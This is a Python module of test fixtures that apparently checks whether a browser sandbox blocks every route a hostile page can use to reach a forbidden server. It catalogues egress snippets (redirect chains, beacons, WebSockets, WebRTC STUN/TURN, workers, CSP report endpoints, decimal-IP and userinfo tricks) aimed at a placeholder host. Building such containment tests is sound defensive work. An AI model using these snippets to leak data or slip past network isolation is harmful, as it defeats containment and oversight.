"""Every way out of a page that we know: what the hostile page does. One entry a vector.

In the text {E} is the forbidden server with a port of its own for this vector, {HE} its host and port, {WE} its WebSocket
address, {A} the allowed server. A value may name response headers in a first line that begins with `headers:`.
"""

from types import MappingProxyType

REDIRECTS = {
    f"navigation {code}": f"<script>location='{{A}}/r/{code}?to={{E}}/'</script>" for code in (301, 302, 303, 307, 308)
}


def script(code: str) -> str:
    """A page that only runs a script."""
    return f"<body><script>{code}</script>"


def worker(code: str, kind: str = "new Worker(u)") -> str:
    """A page whose worker runs the code."""
    return script(f"const u = '{{A}}/js?code=' + encodeURIComponent({code!r}); {kind};")


REDIRECTED = {
    "navigation chain": script("location='{A}/r/302?to={A}/r/302%3Fto={E}/'"),
    "form post 307": "<form method=post action='{A}/r/307?to={E}/'></form><script>document.forms[0].submit()</script>",
    "form post 303": "<form method=post action='{A}/r/303?to={E}/'></form><script>document.forms[0].submit()</script>",
    "frame redirect": "<iframe src='{A}/r/302?to={E}/'></iframe>",
    "popup redirect": script("open('{A}/r/302?to={E}/')"),
    "noopener popup redirect": script("open('{A}/r/302?to={E}/', '_blank', 'noopener')"),
    "fetch redirect": script("fetch('{A}/r/302?to={E}/').catch(() => 0)"),
    "fetch post 308": script("fetch('{A}/r/308?to={E}/', {method: 'POST', body: 'x'}).catch(() => 0)"),
    "fetch no-cors redirect": script("fetch('{A}/r/302?to={E}/', {mode: 'no-cors'}).catch(() => 0)"),
    "keepalive redirect": script("fetch('{A}/r/307?to={E}/', {method: 'POST', keepalive: true, body: 'x'}).catch(() => 0)"),
    "beacon redirect": script("navigator.sendBeacon('{A}/r/307?to={E}/', 'x')"),
    "xhr redirect": script("x = new XMLHttpRequest(); x.open('GET', '{A}/r/302?to={E}/'); x.send()"),
    "image redirect": "<img src='{A}/r/301?to={E}/'>",
    "script redirect": "<script src='{A}/r/302?to={E}/'></script>",
    "style redirect": "<link rel=stylesheet href='{A}/r/302?to={E}/'>",
    "video redirect": "<video src='{A}/r/302?to={E}/' preload=auto></video>",
    "event source redirect": script("new EventSource('{A}/r/302?to={E}/')"),
    "worker script redirect": script("new Worker('{A}/r/302?to={E}/')"),
    "download redirect": "<a download href='{A}/r/302?to={E}/'>x</a><script>document.links[0].click()</script>",
    "socket redirect": script("new WebSocket('{A}/r/302?to={WE}/'.replace('http', 'ws'))"),
}

NAVIGATIONS = {
    "location": script("location='{E}/'"),
    "location assign": script("location.assign('{E}/')"),
    "location replace": script("location.replace('{E}/')"),
    "meta refresh": "<meta http-equiv=refresh content='0;url={E}/'>",
    "header refresh": "headers: Refresh: 0;url={E}/\nx",
    "link click": "<a href='{E}/'>x</a><script>document.links[0].click()</script>",
    "base href": "<base href='{E}/'><a href='x'>x</a><script>document.links[0].click()</script>",
    "area click": "<map><area href='{E}/'></map><script>document.querySelector('area').click()</script>",
    "svg link click": "<svg><a href='{E}/'><text>x</text></a></svg><script>document.querySelector('a')"
    ".dispatchEvent(new MouseEvent('click', {bubbles: true}))</script>",
    "form get": "<form action='{E}/'></form><script>document.forms[0].submit()</script>",
    "form post": "<form method=post action='{E}/'></form><script>document.forms[0].submit()</script>",
    "formaction": "<form><button formaction='{E}/'>x</button></form><script>document.querySelector('button').click()</script>",
    "form to a new window": "<form target=_blank action='{E}/'></form><script>document.forms[0].submit()</script>",
    "window.open": script("open('{E}/')"),
    "window.open noopener": script("open('{E}/', '_blank', 'noopener')"),
    "window.open then location": script("w = open('about:blank'); w.location = '{E}/'"),
    "blank link": "<a target=_blank rel=opener href='{E}/'>x</a><script>document.links[0].click()</script>",
    "noopener link": "<a target=_blank rel=noopener href='{E}/'>x</a><script>document.links[0].click()</script>",
    "javascript url": script("location = \"javascript:fetch('{E}/').catch(() => 0)\""),
    "download link": "<a download href='{E}/'>x</a><script>document.links[0].click()</script>",
    "userinfo": script("location='http://127.0.0.1:1@{HE}/'"),
    "decimal address": script("location='{E}/'.replace('127.0.0.1', '2130706433')"),
    "localhost": script("fetch('{E}/'.replace('127.0.0.1', 'localhost'), {mode: 'no-cors'}).catch(() => 0)"),
    "unspecified address": script("fetch('{E}/'.replace('127.0.0.1', '0.0.0.0'), {mode: 'no-cors'}).catch(() => 0)"),
    "mapped address": script("fetch('{E}/'.replace('127.0.0.1', '[::ffff:127.0.0.1]'), {mode: 'no-cors'}).catch(() => 0)"),
    "history": script("history.pushState({}, '', '/v/x'); setTimeout(() => { location = '{E}/' }, 50)"),
}

FRAMES = {
    "iframe": "<iframe src='{E}/'></iframe>",
    "object": "<object data='{E}/'></object>",
    "embed": "<embed src='{E}/'>",
    "frameset": "<frameset><frame src='{E}/'></frameset>",
    "srcdoc frame": "<iframe srcdoc=\"<img src='{E}/'>\"></iframe>",
    "blob frame": script(
        "f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob([`<img src='{E}/'>`],"
        "{type: 'text/html'})); document.body.append(f)"
    ),
    "data frame": "<iframe src=\"data:text/html,<img src='{E}/'>\"></iframe>",
    "nested frame": "<iframe srcdoc=\"<iframe src='{E}/'></iframe>\"></iframe>",
    "sandboxed frame": "<iframe sandbox='allow-scripts' srcdoc=\"<script>fetch('{E}/', {mode: 'no-cors'})</script>\"></iframe>",
}

RESOURCES = {
    "image": "<img src='{E}/'>",
    "srcset": "<img srcset='{E}/ 1x'>",
    "svg image": "<svg><image href='{E}/' width=9 height=9 /></svg>",
    "css background": "<div style='background: url({E}/)'>x</div>",
    "css import": "<style>@import url('{E}/')</style>",
    "css font": "<style>@font-face {font-family: x; src: url('{E}/')} p {font-family: x}</style><p>x",
    "script": "<script src='{E}/'></script>",
    "module": "<script type=module src='{E}/'></script>",
    "dynamic import": script("import('{E}/').catch(() => 0)"),
    "audio": "<audio src='{E}/' preload=auto></audio>",
    "video": "<video src='{E}/' preload=auto></video>",
    "poster": "<video poster='{E}/'></video>",
    "track": "<video src='{A}/x'><track default kind=subtitles src='{E}/'></video>",
    "input image": "<input type=image src='{E}/'>",
    "stylesheet": "<link rel=stylesheet href='{E}/'>",
    "preload": "<link rel=preload as=script href='{E}/'>",
    "prefetch": "<link rel=prefetch href='{E}/'>",
    "modulepreload": "<link rel=modulepreload href='{E}/'>",
    "preconnect": "<link rel=preconnect href='{E}/'>",
    "prerender": "<link rel=prerender href='{E}/'>",
    "preload header": "headers: Link: <{E}/>; rel=preload; as=script\nx",
    "preconnect header": "headers: Link: <{E}/>; rel=preconnect\nx",
    "manifest": "<link rel=manifest href='{E}/'>",
    "icon": "<link rel=icon href='{E}/'>",
    "speculation prefetch": '<script type=speculationrules>{"prefetch": [{"source": "list", "urls": ["{E}/"]}]}</script>',
    "speculation prerender": '<script type=speculationrules>{"prerender": [{"source": "list", "urls": ["{E}/"]}]}</script>',
    "speculation prefetch redirect": '<script type=speculationrules>{"prefetch": [{"source": "list", '
    '"urls": ["{A}/r/302?to={E}/"]}]}</script>',
    "speculation header": 'headers: Speculation-Rules: "{A}/rules?to={E}/"\nx',
    "csp report": "headers: Content-Security-Policy: img-src 'none'; report-uri {E}/\n<img src=/x>",
    "reporting api": 'headers: Reporting-Endpoints: e="{E}/"|'
    "Content-Security-Policy: img-src 'none'; report-to e\n<img src=/x>",
}

REQUESTS = {
    "fetch": script("fetch('{E}/').catch(() => 0)"),
    "fetch no-cors": script("fetch('{E}/', {mode: 'no-cors'}).catch(() => 0)"),
    "fetch post": script("fetch('{E}/', {method: 'POST', body: 'x', mode: 'no-cors'}).catch(() => 0)"),
    "fetch keepalive": script("fetch('{E}/', {method: 'POST', keepalive: true, mode: 'no-cors'}).catch(() => 0)"),
    "fetch later": script("fetchLater('{E}/', {activateAfter: 0})"),
    "preflight": script("fetch('{E}/', {method: 'PUT', headers: {'x-y': '1'}}).catch(() => 0)"),
    "xhr": script("x = new XMLHttpRequest(); x.open('GET', '{E}/'); x.send()"),
    "sync xhr": script("x = new XMLHttpRequest(); x.open('GET', '{E}/', false); x.send()"),
    "beacon": script("navigator.sendBeacon('{E}/', 'x')"),
    "ping": "<a href='#' ping='{E}/'>x</a><script>document.links[0].click()</script>",
    "event source": script("new EventSource('{E}/')"),
    "beacon at unload": script("addEventListener('pagehide', () => navigator.sendBeacon('{E}/', 'x'))"),
    "keepalive at unload": script(
        "addEventListener('pagehide', () => fetch('{E}/', {method: 'POST', keepalive: true, mode: 'no-cors'}))"
    ),
    "image at unload": script("addEventListener('pagehide', () => { new Image().src = '{E}/' })"),
}

SOCKETS = {
    "websocket": script("new WebSocket('{WE}/')"),
    "websocket in a frame": "<iframe srcdoc=\"<script>new WebSocket('{WE}/')</script>\"></iframe>",
    "websocket in a worker": worker("new WebSocket('{WE}/')"),
    "websocket stream": script("new WebSocketStream('{WE}/')"),
    "webtransport": script("new WebTransport('{E}/'.replace('http:', 'https:')).ready.catch(() => 0)"),
    "stun": script(
        "p = new RTCPeerConnection({iceServers: [{urls: 'stun:{HE}'}]}); p.createDataChannel('x');"
        "p.createOffer().then(o => p.setLocalDescription(o))"
    ),
    "turn udp": script(
        "p = new RTCPeerConnection({iceServers: [{urls: 'turn:{HE}?transport=udp', username: 'u', credential: 'c'}]});"
        "p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o))"
    ),
    "turn tcp": script(
        "p = new RTCPeerConnection({iceServers: [{urls: 'turn:{HE}?transport=tcp', username: 'u', credential: 'c'}]});"
        "p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o))"
    ),
}

WORKERS = {
    "worker fetch": worker("fetch('{E}/', {mode: 'no-cors'}).catch(() => 0)"),
    "worker importScripts": worker("importScripts('{E}/')"),
    "worker redirect": worker("fetch('{A}/r/302?to={E}/', {mode: 'no-cors'}).catch(() => 0)"),
    "blob worker": script("new Worker(URL.createObjectURL(new Blob([`fetch('{E}/', {mode: 'no-cors'})`])))"),
    "nested worker": worker('new Worker(URL.createObjectURL(new Blob([`fetch("{E}/", {mode: "no-cors"})`])))'),
    "shared worker": worker("fetch('{E}/', {mode: 'no-cors'})", "new SharedWorker(u)"),
    "shared worker socket": worker("new WebSocket('{WE}/')", "new SharedWorker(u)"),
    "service worker": worker("fetch('{E}/', {mode: 'no-cors'})", "navigator.serviceWorker.register(u)"),
    "worklet": script("new AudioContext().audioWorklet.addModule('{E}/').catch(() => 0)"),
}

VECTORS = MappingProxyType(REDIRECTS | REDIRECTED | NAVIGATIONS | FRAMES | RESOURCES | REQUESTS | SOCKETS | WORKERS)
